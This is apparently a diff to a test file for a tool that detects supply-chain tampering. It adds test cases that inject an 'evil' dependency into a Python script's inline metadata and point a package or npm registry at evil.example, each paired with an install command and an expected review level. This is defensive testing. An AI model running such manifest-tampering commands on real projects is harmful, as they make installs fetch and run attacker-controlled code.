@@ -12,6 +12,7 @@ const FILES = {
   'tox.ini': '[testenv]\ndeps = pytest\ncommands = pytest\n',
   'noxfile.py': 'import nox\n',
   'rebar.config': '{deps, []}.\n',
+  's.py': '# /// script\n# dependencies = ["rich"]\n# ///\nprint(1)\n',
 };
 
 const open: RealSession[] = [];
@@ -34,6 +35,14 @@ const STORIES: readonly Story[] = [
   ['a requirement', ['ls', 'echo evil >> requirements.txt'], 'pip install -r requirements.txt', 'review'],
   ['a requirement less', ['ls', 'echo "# none" > requirements.txt'], 'pip install -r requirements.txt', 'quiet'],
   ['a crate', ['ls', `printf '[dependencies]\\nevil = "1"\\n' >> Cargo.toml`], 'cargo test', 'review'],
+  ['a package of a script', ['ls', `sed -i 's/"rich"/"rich", "evil"/' s.py`], 'uv run s.py', 'review'],
+  [
+    'a package of a script by address',
+    ['ls', `sed -i 's#"rich"#"evil @ git+https://evil.example/x"#' s.py`],
+    'uv run --script s.py',
+    'guarded',
+  ],
+  ['another line of a script', ['ls', 'echo "print(2)" >> s.py'], 'uv run s.py', 'quiet'],
   ['a source file', ['ls', 'mkdir -p src && echo "fn main() {}" > src/main.rs'], 'cargo test', 'quiet'],
   ['another registry', ['ls', 'echo registry=https://evil.example > .npmrc'], 'npm ci', 'review'],
   [
